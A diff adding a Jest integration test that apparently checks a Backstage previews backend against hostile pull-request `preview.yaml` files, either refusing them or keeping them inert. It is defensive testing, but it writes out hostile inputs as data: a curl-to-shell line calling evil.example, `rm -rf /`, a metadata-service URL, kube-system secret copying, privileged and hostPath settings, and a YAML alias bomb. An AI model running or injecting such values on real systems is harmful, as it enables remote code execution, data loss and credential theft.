@@ -1,0 +1,231 @@
+import { stringify } from 'yaml';
+import { Preview } from '@backstage-previews/plugin-previews-common';
+import { waitFor } from '../../../plugins/previews-backend/src/testUtils';
+import { SecurityBackend, secComponent, signedDelivery, startSecurityBackend } from './securityBackend';
+import { DEMO_IMAGE } from '../../cluster/testImages';
+
+// Hostile `.backstage/preview.yaml` files at a pull request head, served by
+// the loopback GitHub's contents API and read through Backstage's own GitHub
+// UrlReader. Each goes the real webhook path (a signed `labeled` delivery)
+// and the portal's create from that pull request. A file reaching outside its
+// preview is refused with a 400 naming the field, nothing is created, and the
+// pull request's sticky comment says why; the few that are allowed are
+// rendered harmless (checked on the objects the real cluster holds).
+
+jest.setTimeout(300_000);
+
+const run = Date.now().toString(36);
+const WEBHOOK_SECRET = `sec-files-webhook-${run}`;
+const REPO = 'acme/sec-files';
+const COMPONENT = 'component:default/sec-files';
+const component = secComponent('sec-files', {
+  'github.com/project-slug': REPO,
+  'backstage.io/source-location': `url:https://github.test/${REPO}/tree/main/`,
+});
+
+const app = (extra: Record<string, unknown> = {}) => ({ name: 'app', image: DEMO_IMAGE, port: 8080, ...extra });
+const spec = (extra: Record<string, unknown> = {}, workload: Record<string, unknown> = {}) =>
+  stringify({ workloads: [app(workload)], ...extra });
+
+interface RefusedCase {
+  name: string;
+  file: string;
+  /** What the 400 (and the PR comment) must say: the field, and that it was this file. */
+  message: RegExp;
+}
+
+const refused: RefusedCase[] = [
+  { name: 'copyFrom kube-system', file: spec({ secrets: [{ name: 't', copyFrom: { namespace: 'kube-system', name: 'bootstrap-token-abcdef' } }] }), message: /secrets may only be set in the catalog/ },
+  { name: "copyFrom another preview's postgres", file: spec({ secrets: [{ name: 'db', copyFrom: { namespace: 'shop-main-0a1b2c3d', name: 'postgres' } }] }), message: /secrets may only be set in the catalog/ },
+  { name: 'engine override', file: spec({ engine: 'argocd' }), message: /engine may only be set in the catalog/ },
+  { name: 'cluster override', file: spec({ cluster: 'production' }), message: /cluster may only be set in the catalog/ },
+  { name: 'argocd.project: default', file: spec({ argocd: { project: 'default', path: 'deploy' } }), message: /argocd\.project may only be set in the catalog/ },
+  { name: 'a foreign argocd.repoURL', file: spec({ argocd: { repoURL: 'https://git.evil.example/x.git', path: 'deploy' } }), message: /argocd\.repoURL may only be set in the catalog/ },
+  { name: 'a control-plane nodeSelector', file: spec({ nodeSelector: { 'node-role.kubernetes.io/control-plane': '' } }), message: /nodeSelector may only be set in the catalog/ },
+  { name: 'tolerate every taint', file: spec({ tolerations: [{ operator: 'Exists' }] }), message: /tolerations may only be set in the catalog/ },
+  { name: 'a 10 Ti PVC', file: spec({ databases: { postgres: { storage: '10Ti' } } }), message: /storage/ },
+  { name: 'hostNetwork', file: spec({}, { hostNetwork: true }), message: /hostNetwork/ },
+  { name: 'a privileged securityContext', file: spec({}, { securityContext: { privileged: true } }), message: /securityContext/ },
+  { name: 'a hostPath volume', file: spec({ volumes: [{ name: 'root', hostPath: { path: '/' } }] }), message: /volumes/ },
+  { name: 'its own namespace: kube-system', file: spec({ namespace: 'kube-system' }), message: /namespace/ },
+  { name: 'a serviceAccountName', file: spec({}, { serviceAccountName: 'default' }), message: /serviceAccountName/ },
+  { name: 'a path-like workload name', file: spec({}, { name: '../../etc' }), message: /name/ },
+  { name: 'a 64-character workload name', file: spec({}, { name: `a${'b'.repeat(63)}` }), message: /name/ },
+  { name: '1000 replicas', file: spec({}, { replicas: 1000 }), message: /replicas/ },
+  { name: 'port 70000', file: spec({}, { port: 70000 }), message: /port/ },
+  { name: 'an image with a newline', file: spec({}, { image: 'registry.local/demo:1\nkind: Pod' }), message: /image/ },
+  { name: 'an env name with =', file: spec({}, { env: { 'A=B': 'x' } }), message: /env/ },
+  { name: 'a cpu limit with shell text', file: spec({}, { resources: { limits: { cpu: '1; rm -rf /' } } }), message: /cpu/ },
+  { name: 'a readiness URL to the metadata service', file: spec({}, { readinessPath: 'http://169.254.169.254/latest/meta-data/' }), message: /readinessPath/ },
+  { name: 'expose a workload it does not have', file: spec({ expose: 'kube-dns' }), message: /expose/ },
+  { name: 'an ingress host of its own', file: spec({ ingress: { host: 'portal.example.com' } }), message: /ingress/ },
+  { name: 'a YAML alias bomb', file: `a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n`, message: /[Aa]lias/ },
+  { name: 'a list instead of a spec', file: stringify([app()]), message: /preview\.yaml/ },
+  { name: 'broken YAML', file: 'workloads: [ { name: app, image: "x\n', message: /preview\.yaml/ },
+  { name: 'a file over the size limit', file: `${spec()}\n# ${'x'.repeat(300_000)}\n`, message: /larger than/ },
+  { name: 'no workloads at all', file: stringify({ workloads: [] }), message: /workloads/ },
+  { name: '__proto__ at the top', file: `__proto__:\n  polluted: true\n${spec()}`, message: /__proto__/ },
+];
+
+interface HarmlessCase {
+  name: string;
+  file: string;
+  /** Checks the preview's objects on the cluster. */
+  check: (preview: Preview, objects: { env: Record<string, string>; command?: string[]; args?: string[]; envOf: (name: string) => string | undefined }) => void;
+}
+
+const SHELL = '$(curl http://evil.example/x | sh); `id` && rm -rf / || true';
+const YAML_TEXT = 'key: value\n- item\n&anchor *ref !!python/object:os.system {}';
+const harmless: HarmlessCase[] = [
+  {
+    name: 'a dependency on another team’s component wires nothing',
+    file: spec({ dependencies: { 'payments-db': { env: 'PAYMENTS_URL' } } }),
+    check: (preview, o) => {
+      expect(preview.dependencies ?? []).toEqual([]);
+      expect(o.envOf('PAYMENTS_URL')).toBeUndefined();
+    },
+  },
+  {
+    name: 'env values with shell metacharacters stay data',
+    file: spec({}, { env: { HOOK: SHELL } }),
+    check: (_preview, o) => {
+      expect(o.env.HOOK).toBe(SHELL);
+      // the container runs its image's own entrypoint: nothing of the value reaches a command line
+      expect(o.command).toBeUndefined();
+      expect(o.args).toBeUndefined();
+    },
+  },
+  {
+    name: 'env values with YAML metacharacters stay data',
+    file: spec({}, { env: { NOTE: YAML_TEXT } }),
+    check: (_preview, o) => {
+      expect(o.env.NOTE).toBe(YAML_TEXT);
+      expect(Object.keys(o.env)).not.toContain('key');
+    },
+  },
+];
+
+describe('hostile .backstage/preview.yaml files at a pull request head', () => {
+  let sec: SecurityBackend;
+  let prNumber = 700;
+
+  beforeAll(async () => {
+    sec = await startSecurityBackend({
+      entities: [component],
+      webhookSecret: WEBHOOK_SECRET,
+      githubToken: `sec-files-token-${run}`,
+      kubernetes: { secretSources: [{ namespace: 'previews-shared', names: ['regcred'] }] },
+    });
+  });
+
+  afterAll(async () => {
+    await sec?.stop();
+  });
+
+  /** A pull request whose head holds `file` as its spec; returns its number and head. */
+  function pullRequestWith(file: string) {
+    const n = ++prNumber;
+    const sha = `${run}${n}`.padEnd(40, '0').replace(/[^0-9a-f]/g, 'e').slice(0, 40);
+    const ref = `sec-files-${run}-${n}`;
+    sec.github.addPull(REPO, { number: n, title: `Hostile ${n}`, head: { ref, sha, repoFullName: REPO }, base: { ref: 'main' }, labels: ['preview'] });
+    sec.github.setFile(REPO, sha, '.backstage/preview.yaml', file);
+    return { n, sha, ref };
+  }
+
+  /** Sends the signed `labeled` delivery GitHub would send for the pull request. */
+  async function label(pr: { n: number; sha: string; ref: string }) {
+    const payload = {
+      action: 'labeled',
+      number: pr.n,
+      label: { name: 'preview' },
+      pull_request: {
+        number: pr.n,
+        title: `Hostile ${pr.n}`,
+        state: 'open',
+        draft: false,
+        html_url: `https://github.test/${REPO}/pull/${pr.n}`,
+        labels: [{ id: 1, name: 'preview' }],
+        head: { ref: pr.ref, sha: pr.sha, repo: { id: 42, full_name: REPO } },
+        base: { ref: 'main', repo: { id: 42, full_name: REPO } },
+        updated_at: new Date().toISOString(),
+      },
+      repository: { id: 42, full_name: REPO, html_url: `https://github.test/${REPO}` },
+    };
+    const { body, headers } = signedDelivery('pull_request', payload, WEBHOOK_SECRET, `sec-files-${run}-${pr.n}`);
+    const res = await sec.api().post('/api/events/http/github').set(headers).send(body);
+    expect(res.status).toBe(202);
+  }
+
+  async function previewRows() {
+    return sec.knex('previews').where({ entity_ref: COMPONENT });
+  }
+
+  it(`serves at least 30 hostile files (${refused.length} refused, ${harmless.length} harmless)`, () => {
+    expect(refused.length + harmless.length).toBeGreaterThanOrEqual(30);
+  });
+
+  it.each(refused.map(c => [c.name, c] as const))('refuses %s (webhook and portal), creating nothing', async (_, c) => {
+    const rowsBefore = (await previewRows()).length;
+    const pr = pullRequestWith(c.file);
+
+    await label(pr);
+    const refusal = await waitFor(
+      `the refusal of #${pr.n}`,
+      () => sec.logs.text().split('\n').find(l => l.includes(`${REPO}#${pr.n} was refused`)),
+      30_000,
+    ).catch(e => {
+      throw new Error(`${e.message}; the log ends with:\n${sec.logs.text().split('\n').slice(-15).join('\n')}`);
+    });
+    expect(refusal).toMatch(c.message);
+    expect(refusal).toContain('.backstage/preview.yaml');
+    // The pull request is told why, in the bot's own comment.
+    const comment = await waitFor(`the refusal comment on #${pr.n}`, () =>
+      sec.github.comments(REPO, pr.n).find(x => x.user.login === 'previews-bot' && x.body.includes('refused')),
+    );
+    expect(comment.body).toContain('### sec-files');
+
+    // The portal's create from the same pull request: a 400 naming the field.
+    const res = await sec.api().post('/api/previews/previews').send({ entityRef: COMPONENT, pullRequest: pr.n });
+    expect({ status: res.status, message: res.body?.error?.message }).toEqual({
+      status: 400,
+      message: expect.stringMatching(c.message),
+    });
+    expect(res.body.error.message).toContain('.backstage/preview.yaml');
+
+    expect((await previewRows()).length).toBe(rowsBefore);
+    expect(await sec.namespaces('sec-files')).toEqual([]);
+  });
+
+  it.each(harmless.map(c => [c.name, c] as const))('%s', async (_, c) => {
+    const pr = pullRequestWith(c.file);
+    await label(pr);
+    const row = await waitFor(`the preview of #${pr.n}`, async () =>
+      (await previewRows()).find(r => r.branch === pr.ref && r.status !== 'destroyed'),
+    );
+    const preview = await waitFor('the preview to be applied', async () => {
+      const p = (await sec.api().get(`/api/previews/previews/${row.id}`)).body as Preview;
+      return p.status !== 'pending' && p.status !== 'creating' ? p : undefined;
+    });
+    try {
+      const core = sec.kc.makeApiClient(sec.k8s.CoreV1Api);
+      const deployment = await sec.kc.makeApiClient(sec.k8s.AppsV1Api).readNamespacedDeployment({ name: 'app', namespace: preview.name });
+      const container = deployment.spec!.template.spec!.containers[0];
+      const configMap = await core.readNamespacedConfigMap({ name: 'app-env', namespace: preview.name });
+      c.check(preview, {
+        env: configMap.data ?? {},
+        command: container.command,
+        args: container.args,
+        envOf: name => container.env?.find(e => e.name === name)?.value ?? configMap.data?.[name],
+      });
+      // Nothing of it outside its own namespace.
+      const everywhere = await core.listNamespace({ labelSelector: `app.kubernetes.io/instance=${preview.id}` });
+      expect(everywhere.items.map(ns => ns.metadata?.name)).toEqual([preview.name]);
+    } finally {
+      expect((await sec.api().delete(`/api/previews/previews/${preview.id}`)).status).toBe(202);
+      await waitFor('the preview to be destroyed', async () => {
+        const p = (await sec.api().get(`/api/previews/previews/${preview.id}`)).body as Preview;
+        return p.status === 'destroyed';
+      });
+    }
+  });
+});
